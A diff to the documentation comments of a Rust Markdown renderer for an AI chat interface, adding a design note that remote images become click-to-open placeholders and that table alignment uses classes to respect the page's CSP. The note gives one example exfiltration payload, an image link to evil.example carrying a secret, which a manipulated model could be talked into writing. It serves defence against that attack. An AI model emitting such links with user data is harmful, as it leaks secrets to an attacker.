@@ -8,13 +8,26 @@
 //!   Links are only links for `http:`, `https:` and `mailto:` URLs ([`link_url`]), images only for
 //!   `http:`/`https:` and `data:` PNG/JPEG/GIF/WebP URLs ([`image_url`]); anything else (e.g.
 //!   `javascript:`, `data:text/html`, relative URLs) leaves the link text as plain text. Links get
-//!   `rel="noopener noreferrer nofollow" target="_blank"`, images `loading="lazy"
-//!   referrerpolicy="no-referrer"`.
+//!   `rel="noopener noreferrer nofollow" target="_blank"`, `data:` images are inline `<img>` with
+//!   `loading="lazy" referrerpolicy="no-referrer"`.
+//! - **Remote images are never fetched by rendering them.** A model can be talked into writing
+//!   `![](https://evil.example/?d=<secret>)`; an `<img>` would send the secret the moment the
+//!   reply is on screen. So an `http(s)` image is a placeholder naming the host the browser would
+//!   ask ([`image_host`]) and the alt text: `<a class="lmck-remote-image" href="…"
+//!   rel="noopener noreferrer nofollow" target="_blank" referrerpolicy="no-referrer"><span
+//!   class="lmck-remote-image-host">host</span><span class="lmck-remote-image-alt">alt</span></a>`.
+//!   *Decision:* a click opens the image in a new tab rather than loading it in place. The chat
+//!   page's CSP (`img-src 'self' data: blob:`) would block it in place anyway, and a new tab
+//!   means the request happens only on the user's gesture, after they saw the host, without a
+//!   referrer and without the page's cookies being involved. Inside a link the placeholder is a
+//!   `<span>` with the same classes (links do not nest; the outer link is what a click follows).
 //! - **Markup the UI styles or wires up** (all classes start with `lmck-` except `language-*`):
 //!   a code block is `<div class="lmck-codeblock"><button class="lmck-copy" type="button"
 //!   aria-label="Copy code">Copy</button><pre><code class="lmck-code language-rust"
 //!   data-lang="rust">…</code></pre></div>` (no `language-`/`data-lang` without a language); a
-//!   table is wrapped in `<div class="lmck-table">` (for horizontal scrolling); raw HTML blocks
+//!   table is wrapped in `<div class="lmck-table">` (for horizontal scrolling) and its aligned
+//!   cells carry `class="lmck-align-left|center|right"` (no `style` attribute anywhere, so the
+//!   page's `style-src 'self'` holds); raw HTML blocks
 //!   are `<pre class="lmck-raw-html">` with the escaped source; task list items carry a disabled
 //!   checkbox. An unclosed code fence (a reply still streaming) renders as a code block. Bare
 //!   `http(s)://` URLs in text become links too (the GFM autolink extension).
@@ -46,6 +59,8 @@ mod tests_edge;
 #[cfg(test)]
 mod tests_highlight;
 #[cfg(test)]
+mod tests_images;
+#[cfg(test)]
 mod tests_incremental;
 
 use std::collections::HashMap;
@@ -54,7 +69,7 @@ use pulldown_cmark::{BrokenLink, CodeBlockKind, CowStr, Event, Options, Parser, 
 use unicase::UniCase;
 
 pub use incremental::{Block, Incremental};
-pub use sanitize::{image_url, link_url};
+pub use sanitize::{image_host, image_url, link_url};
 
 use sanitize::{FenceQueue, Sanitize};
 
